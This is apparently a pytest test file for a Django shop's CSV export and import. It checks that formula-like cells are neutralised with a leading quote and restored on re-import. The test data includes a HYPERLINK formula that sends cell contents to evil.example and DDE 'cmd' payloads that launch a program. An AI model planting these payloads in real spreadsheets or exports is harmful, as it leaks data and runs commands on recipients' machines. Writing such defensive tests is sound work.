"""CSV files meant for spreadsheets neutralise formulas; imports read them back unchanged."""

import csv
import io

import pytest
from django.core.files.storage import default_storage
from django.urls import reverse

from catalog import csvio
from catalog.models import Product
from catalog.tests.factories import make_location, make_product
from localization.translations import translations_export_csv, translations_import_csv
from shopadmin.audit import Actor, acting_as, audit_record
from shopadmin.models import Door, Job
from shopadmin.services import job_create
from shopadmin.spreadsheets import neutralise, restore
from shopadmin.tasks import audit_log_export_task
from shopadmin.tenancy import shop_context

EVIL = '=HYPERLINK("https://evil.example/?"&A1,"click")'


@pytest.mark.parametrize(
    ("value", "written"),
    [
        (EVIL, "'" + EVIL),
        ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("'=1", "''=1"),
        ("-5", "-5"),
        ("+3.50", "+3.50"),
        ("Tee = shirt", "Tee = shirt"),
        ("", ""),
        (12, 12),
    ],
)
def test_neutralise_and_restore(value, written):
    assert neutralise(value) == written
    if isinstance(value, str):
        assert restore(written) == value
    assert restore("'quoted") == "'quoted"  # a quote before anything else is the merchant's
    assert restore("'-5") == "'-5"


@pytest.mark.django_db
def test_catalog_export_neutralises_and_reimports_unchanged(alice_client, shop_a):
    with shop_context(shop_a):
        make_location()
        product = make_product(EVIL, skus=("@SKU-S", "=SKU-M"), brand="+brand")
    response = alice_client.get(reverse("catalog:export", args=["alice"]))
    text = b"".join(response.streaming_content).decode()
    rows = list(csv.DictReader(io.StringIO(text)))
    assert rows[0]["title"] == "'" + EVIL
    assert rows[0]["brand"] == "'+brand"
    assert [r["sku"] for r in rows] == ["'@SKU-S", "'=SKU-M"]
    # The file imports back as the same catalog: nothing new, nothing changed.
    with shop_context(shop_a):
        plan = csvio.plan_import(text)
        assert plan.errors == []
        assert plan.summary()["variants_new"] == 0 and plan.summary()["products_new"] == 0
        csvio.commit_import(text)
        product = Product.objects.get(pk=product.pk)
        assert product.title == EVIL and product.brand == "+brand"
        assert sorted(product.variants.values_list("sku", flat=True)) == ["=SKU-M", "@SKU-S"]


@pytest.mark.django_db
def test_audit_log_export_neutralises(shop_a):
    with shop_context(shop_a), acting_as(Actor(door=Door.UI, label=EVIL)):
        audit_record(action="=cmd", shop_id=shop_a.pk, object_repr="-1+1")
        job = job_create(kind="audit_log_export")
    audit_log_export_task.apply(args=[shop_a.pk, job.pk])
    with shop_context(shop_a):
        job = Job.objects.get(pk=job.pk)
    with default_storage.open(job.result["file"]) as handle:
        rows = list(csv.DictReader(io.StringIO(handle.read().decode())))
    row = next(r for r in rows if r["action"] == "'=cmd")
    assert row["actor"] == "'" + EVIL and row["object"] == "'-1+1"


@pytest.mark.django_db
def test_translations_export_neutralises_and_reimports_unchanged(shop_a):
    from localization.models import Translation

    with shop_context(shop_a):
        product = make_product("=1+1", skus=("T-S",))
        shop_a.refresh_from_db()
        Translation.objects.create(kind="product", product=product, field="title", language="fr", value="@fr")
        text = translations_export_csv(language="fr", shop=shop_a)
        rows = list(csv.DictReader(io.StringIO(text)))
        row = next(r for r in rows if r["field"] == "title" and r["kind"] == "product")
        assert row["source"] == "'=1+1" and row["value"] == "'@fr"
        translations_import_csv(data=text, shop=shop_a)
        assert Translation.objects.get(product=product, field="title", language="fr").value == "@fr"
